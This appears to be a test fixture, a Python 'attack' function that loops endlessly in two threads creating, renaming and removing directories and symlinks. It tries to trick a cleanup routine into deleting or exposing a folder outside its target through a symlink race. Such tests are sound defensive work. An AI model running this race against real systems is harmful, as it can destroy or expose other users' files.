# Attempts: have the cleanup delete or open up other folders, by links and moves in every place.

def attack(world):
    import os, threading
    outside = world["folder"]

    def swap():
        while True:
            for action in (
                lambda: os.mkdir("there"),
                lambda: os.mkdir("there/inner", 0),
                lambda: os.rename("there", "here"),
                lambda: os.symlink(outside, "there"),
                lambda: os.symlink(outside, "here/link"),
                lambda: os.unlink("there"),
                lambda: os.rmdir("here/inner"),
                lambda: os.unlink("here/link"),
                lambda: os.rmdir("here"),
            ):
                try:
                    action()
                except OSError:
                    pass

    threading.Thread(target=swap, daemon=True).start()
    swap()
